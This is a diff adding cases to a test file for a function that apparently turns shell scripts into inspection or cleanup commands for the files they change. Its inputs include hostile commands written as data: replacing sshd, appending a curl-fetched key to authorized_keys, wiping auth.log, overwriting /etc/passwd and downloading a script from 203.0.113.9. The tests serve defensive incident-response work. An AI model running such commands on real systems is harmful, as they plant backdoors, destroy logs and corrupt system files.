@@ -95,10 +95,18 @@ test.each([
   ['cp /tmp/a /usr/sbin/sshd', '/usr/sbin/sshd'],
   ['curl http://203.0.113.9/k >> /var/www/.ssh/authorized_keys', '/var/www/.ssh/authorized_keys'],
   [': > /var/log/auth.log', '/var/log/auth.log'],
+  ['cd /etc && echo x > passwd', '/etc/passwd'],
 ])('has a changed file of the machine looked at, not moved: %s', (script, path) => {
   const lines = removing(script);
   expect(lines).toContain(`stat -- ${path}`);
   expect(lines.join('\n')).not.toContain(`mv -n -- ${path} `);
+});
+
+test('takes away what was made in the folder that the command went to', () => {
+  const lines = removing('cd /srv/app && curl http://203.0.113.9/k -o k.sh', {
+    workingDirectory: '/srv/www',
+  });
+  expect(lines).toContain('sha256sum -- /srv/app/k.sh');
 });
 
 test.each([
